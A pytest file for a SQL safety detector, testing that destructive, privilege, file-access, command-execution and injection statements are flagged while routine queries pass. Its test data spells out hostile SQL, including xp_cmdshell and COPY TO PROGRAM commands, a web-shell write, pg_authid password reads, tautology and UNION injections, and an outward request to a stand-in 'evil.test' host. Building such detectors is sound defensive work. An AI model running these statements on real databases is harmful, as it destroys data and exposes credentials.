"""Statements: what destroys, exposes or takes over is refused, ordinary work is not."""

from __future__ import annotations

import pytest

from policy.detectors.sql.detector import detect, detect_statement

_BAR = 70

# name, statement, rule
DANGEROUS = (
    ("drop table", "DROP TABLE IF EXISTS invoices CASCADE;", "sql.destructive-ddl"),
    ("drop quoted table", "drop table `invoices`", "sql.destructive-ddl"),
    ("drop column", "ALTER TABLE people DROP COLUMN email", "sql.destructive-ddl"),
    ("drop index", "DROP INDEX ix_people ON people", "sql.destructive-ddl"),
    ("truncate", "TRUNCATE invoices", "sql.destructive-ddl"),
    ("delete without where", "DELETE FROM people", "sql.unbounded-delete"),
    ("delete where true", "DELETE FROM people WHERE 1=1", "sql.unbounded-delete"),
    ("delete where or true", "DELETE FROM people WHERE id = 5 OR 1=1", "sql.unbounded-delete"),
    (
        "delete where folds to true",
        "DELETE FROM people WHERE (id = 5 OR 2 > 1) AND 1=1",
        "sql.unbounded-delete",
    ),
    ("delete where itself", "DELETE FROM people WHERE id = id", "sql.unbounded-delete"),
    ("delete in a CTE", "WITH g AS (DELETE FROM people RETURNING *) SELECT * FROM g", "sql.unbounded-delete"),
    ("delete behind explain", "EXPLAIN ANALYZE DELETE FROM people", "sql.unbounded-delete"),
    ("delete of an alias", "DELETE p FROM people p", "sql.unbounded-delete"),
    ("update without where", "UPDATE people SET admin = 1", "sql.unbounded-update"),
    ("where of a subquery", "UPDATE p SET a = (SELECT 1 FROM x WHERE x.id = 3)", "sql.unbounded-update"),
    ("grant", "GRANT ALL ON *.* TO 'eve'@'%'", "sql.privilege"),
    ("new superuser", "CREATE ROLE eve WITH LOGIN SUPERUSER", "sql.privilege"),
    ("password", "SET PASSWORD FOR 'root'@'localhost' = 'x'", "sql.privilege"),
    ("file read", "SELECT pg_read_file('/etc/hosts')", "sql.file-access"),
    ("file write", "SELECT 1 INTO OUTFILE '/srv/x.php'", "sql.file-access"),
    ("local infile", "LOAD DATA LOCAL INFILE '/etc/hosts' INTO TABLE t", "sql.file-access"),
    ("attach", "ATTACH DATABASE '/tmp/x.db' AS y", "sql.file-access"),
    ("copy to a program", "COPY t TO PROGRAM 'sh -c id'", "sql.command-execution"),
    ("command shell", "EXEC xp_cmdshell 'whoami'", "sql.command-execution"),
    ("library function", "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'x.so'", "sql.command-execution"),
    (
        "outward request",
        "SELECT UTL_HTTP.REQUEST('http://evil.test/'||user) FROM dual",
        "sql.command-execution",
    ),
    ("delay", "SELECT pg_sleep(10)", "sql.time-delay"),
    ("huge series", "SELECT count(*) FROM generate_series(1, 10000000000)", "sql.time-delay"),
    ("shutdown", "SHUTDOWN WITH NOWAIT", "sql.server-control"),
    ("log file as web shell", "SET GLOBAL general_log_file='/srv/x.php'", "sql.server-control"),
    ("password table", "SELECT rolname, rolpassword FROM pg_authid", "sql.credential-table"),
    ("second statement", "SELECT 1; DROP TABLE people", "sql.stacked"),
    ("text run as SQL", "EXECUTE IMMEDIATE 'DROP TABLE ' || 'people'", "sql.destructive-ddl"),
    (
        "characters run as SQL",
        "EXEC(CHAR(68)+CHAR(82)+CHAR(79)+CHAR(80)+' TABLE people')",
        "sql.destructive-ddl",
    ),
    ("anonymous block", "DO $$ BEGIN DROP TABLE people; END $$", "sql.destructive-ddl"),
    ("executable comment", "/*!50000DROP*/ TABLE people", "sql.destructive-ddl"),
    ("encoded", "DROP%20TABLE%20people", "sql.destructive-ddl"),
    ("injected condition", "SELECT * FROM people WHERE name = '' OR '1'='1' --'", "sql.boolean-injection"),
    ("comparison that holds", "SELECT a FROM t WHERE b = 4 OR 9 > 7", "sql.boolean-injection"),
    ("rows of another table", "SELECT a FROM t WHERE b = -9 UNION SELECT c FROM u", "sql.union-injection"),
    ("false condition", "SELECT a FROM t WHERE b = 4 AND 3=7 UNION SELECT c FROM u", "sql.union-injection"),
    (
        "condition on the catalog",
        "SELECT a FROM t WHERE b = 4 AND (SELECT COUNT(*) FROM sysobjects) > 9",
        "sql.schema-probe",
    ),
    ("error with data", "SELECT a FROM t WHERE b = 4 AND extractvalue(7, version())", "sql.error-based"),
    ("binary logs", "PURGE BINARY LOGS TO 'mysql-bin.010'", "sql.server-control"),
    (
        "injected comment",
        "SELECT * FROM people WHERE name = 'root' --' AND password = 'x'",
        "sql.auth-bypass",
    ),
)

ORDINARY = (
    "SELECT a, COUNT(*) FROM t GROUP BY a HAVING COUNT(*) > 1 ORDER BY 2 DESC LIMIT 10",
    "SELECT T1.name FROM a AS T1 JOIN b AS T2 ON T1.id = T2.id WHERE T2.y = 2014 UNION SELECT name FROM c",
    'SELECT name FROM c WHERE k = "Asia" AND p = (SELECT max(p) FROM c WHERE k = "Africa")',
    "SELECT DISTINCT `School Name` FROM `schools` WHERE `County` = 'X' OR `County` = 'Y'",
    "SELECT * FROM t WHERE 1=1 AND status = 'x'",
    "SELECT * FROM t WHERE (1=0 OR status = 'x')",
    "SELECT * FROM t WHERE note = 'drop table people; --'",
    "SELECT * FROM t -- don't touch",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = EXCLUDED.a",
    "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = VALUES(a)",
    "UPDATE t SET a = $1 WHERE id = $2",
    "DELETE FROM sessions WHERE expires_at < NOW()",
    "WITH old AS (SELECT id FROM t WHERE x < 3) DELETE FROM t WHERE id IN (SELECT id FROM old)",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
    "CREATE TABLE IF NOT EXISTS logs (id SERIAL, at TIMESTAMP DEFAULT now())",
    "ALTER TABLE o ADD CONSTRAINT fk FOREIGN KEY (u) REFERENCES p (id) ON DELETE CASCADE ON UPDATE SET NULL",
    "ALTER TABLE t ALTER COLUMN a DROP DEFAULT",
    "CREATE TRIGGER t BEFORE UPDATE ON p FOR EACH ROW EXECUTE FUNCTION f()",
    "SELECT * FROM generate_series(1, 100)",
    "COPY t FROM STDIN WITH (FORMAT csv)",
    "BEGIN; INSERT INTO t VALUES (1); COMMIT;",
    "EXEC dbo.GetUser @id = 5",
    "SELECT x::int FROM t WHERE data @> '{\"a\":1}'",
    "SELECT CHAR(65), ASCII('A'), HEX('abc') FROM t WHERE length(name) > 5",
    "DROP TEMPORARY TABLE tmp",
    "EXPLAIN SELECT * FROM t WHERE id = 1",
)


@pytest.mark.parametrize(
    ("text", "rule"), [case[1:] for case in DANGEROUS], ids=[case[0] for case in DANGEROUS]
)
def test_a_dangerous_statement_is_refused_with_its_rule(text: str, rule: str) -> None:
    for found in (detect_statement(text), detect(text)):
        assert found.score >= _BAR / 100
        assert rule in {match.rule for match in found.matches if match.severity >= _BAR}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_work_passes(text: str) -> None:
    for found in (detect_statement(text), detect(text)):
        assert all(match.severity < _BAR for match in found.matches)
        assert found.score < _BAR / 100


def test_a_minor_change_is_recorded_and_passes() -> None:
    assert [match.kind for match in detect_statement("DROP TEMPORARY TABLE tmp").matches] == [
        "drop-temporary"
    ]


def test_what_does_not_parse_is_recorded() -> None:
    (match,) = detect_statement("SELEC everything FRM t WHERE (").matches
    assert match.rule == "sql.unparsable"
    assert match.severity < _BAR


def test_a_dialect_may_be_named_and_a_wrong_name_does_no_harm() -> None:
    assert not detect_statement("SELECT TOP 3 * FROM [t]", "tsql").matches
    assert not detect_statement("SELECT 1", "no such dialect").matches


def test_the_statement_beyond_the_cap_is_still_found() -> None:
    rows = ", ".join("(1, 'x')" for _ in range(4000))
    found = detect_statement("INSERT INTO t VALUES rows; DROP TABLE t".replace("rows", rows))
    assert "sql.destructive-ddl" in {match.rule for match in found.matches}
